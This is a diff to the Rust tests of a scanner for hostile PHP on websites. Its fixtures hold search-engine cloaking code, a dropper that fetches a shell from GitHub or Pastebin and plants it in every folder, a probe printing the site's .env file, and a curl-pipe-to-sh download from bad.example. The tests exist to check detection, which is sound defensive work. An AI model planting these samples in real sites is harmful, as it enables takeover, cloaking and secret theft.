@@ -386,6 +386,14 @@ fn a_stored_page_shown_to_crawlers_and_search_visitors_is_cloaking() {
     assert!(found(crawlers_only).is_empty());
     let goes_on = cloak.replace("exit;", "");
     assert!(found(&goes_on).is_empty());
+    // fresh80's front page: a stored page printed to crawlers on the home page, the crawlers
+    // sent there from every other page, WordPress loaded for everyone else.
+    let front = r#"<?php $bots = ['google', 'bot', 'crawler', 'spider']; $ua = strtolower($_SERVER['HTTP_USER_AGENT']);
+        $uri = $_SERVER['REQUEST_URI']; $is_bot = false; foreach ($bots as $b) { if (stripos($ua, $b) !== false) { $is_bot = true; } }
+        if ($is_bot && $uri == '/') { echo file_get_contents("readme.txt"); exit(); }
+        if ($is_bot && $uri !== '/') { header("Location: /", true, 302); exit(); }
+        require __DIR__ . '/wp-blog-header.php';"#;
+    assert_eq!(found(front), [Why::SearchEngineCloaking]);
 }
 
 #[test]
@@ -468,6 +476,29 @@ fn droppers_are_found() {
     assert_eq!(found(piped), [Why::DownloadsProgram]);
     let piped_sh = "<?php shell_exec('curl -fsSL https://bad.example/i' . ' | sh');";
     assert_eq!(found(piped_sh), [Why::DownloadsProgram]);
+}
+
+#[test]
+fn a_shell_fetched_from_a_code_host_and_written_is_a_dropper() {
+    // fresh79's `anjas` and fresh73's summoner: a GitHub-hosted shell fetched by a helper and
+    // planted in every writable folder.
+    let planter = r#"<?php $remote = 'https://raw.githubusercontent.com/someone/public/refs/heads/main/pica2.php';
+        function get($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, true); return curl_exec($c); }
+        $code = get($remote); foreach (glob('*', GLOB_ONLYDIR) as $d) { file_put_contents("$d/.cache.php", $code); }"#;
+    assert_eq!(found(planter), [Why::CodeFromInternet]);
+    let paste = planter.replace(
+        "https://raw.githubusercontent.com/someone/public/refs/heads/main/pica2.php",
+        "https://pastebin.com/raw/Ab12Cd34",
+    );
+    assert_eq!(found(&paste), [Why::CodeFromInternet]);
+    // Near-misses: a stub generator fetching files it names by a variable, a plugin reading
+    // a changelog from GitHub, and a shell's address fetched to be shown, not written.
+    let stubs = planter.replace("refs/heads/main/pica2.php'", "develop/' . $name . '.stub.php'");
+    assert!(found(&stubs).is_empty(), "{stubs}");
+    let changelog = planter.replace("pica2.php", "CHANGELOG.md");
+    assert!(found(&changelog).is_empty());
+    let shown = planter.replace("file_put_contents(\"$d/.cache.php\", $code);", "echo htmlspecialchars($code);");
+    assert!(found(&shown).is_empty(), "{shown}");
 }
 
 #[test]
@@ -730,6 +761,12 @@ fn a_probe_printing_the_sites_settings_file_is_found() {
     // fresh76's one-liner: the site's `.env` under the document root, printed between markers.
     let marked = r#"<?php $c=@file_get_contents($_SERVER["DOCUMENT_ROOT"]."/.env");if($c&&strlen($c)>10)echo"ENV_START".$c."ENV_END";else echo"NONE";"#;
     assert_eq!(found(marked), [Why::ShowsSiteSecrets]);
+    // Regressions (review): an application reading its own settings under its folder's name
+    // (a cache plugin adding a constant, a salt's hash) is not a probe.
+    let cache = r#"<?php function add_c() { $config = file_get_contents(ABSPATH . 'wp-config.php'); file_put_contents(ABSPATH . 'wp-config.php', $config); }
+        function page() { $config = get_option('simple_cache'); echo '<input value="' . esc_attr($config['ttl']) . '">'; }"#;
+    assert!(found(cache).is_empty());
+    assert!(found("<?php return md5(AUTH_SALT . file_get_contents(ABSPATH . 'wp-config.php'));").is_empty());
     // Near misses: settings read and parsed but not shown, a path the application builds, an
     // object's own method, and an example file.
     assert!(
@@ -807,6 +844,11 @@ fn location_beacons_are_found() {
         found(&bot.replace("$u = 'http://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];", "$u = $order_id;"))
             .is_empty()
     );
+    // Regression (review): a landing page's order form telling the shop's chat who ordered.
+    let form = r#"<?php $name = htmlspecialchars($_POST['name']); $phone = htmlspecialchars($_POST['phone']);
+        $txt = "New order from " . $_SERVER['HTTP_HOST'] . "%0AName: " . $name . "%0APhone: " . $phone;
+        $s = fopen("https://api.telegram.org/bot123:AAF/sendMessage?chat_id=-100&text={$txt}", "r");"#;
+    assert!(found(form).is_empty());
 }
 
 #[test]
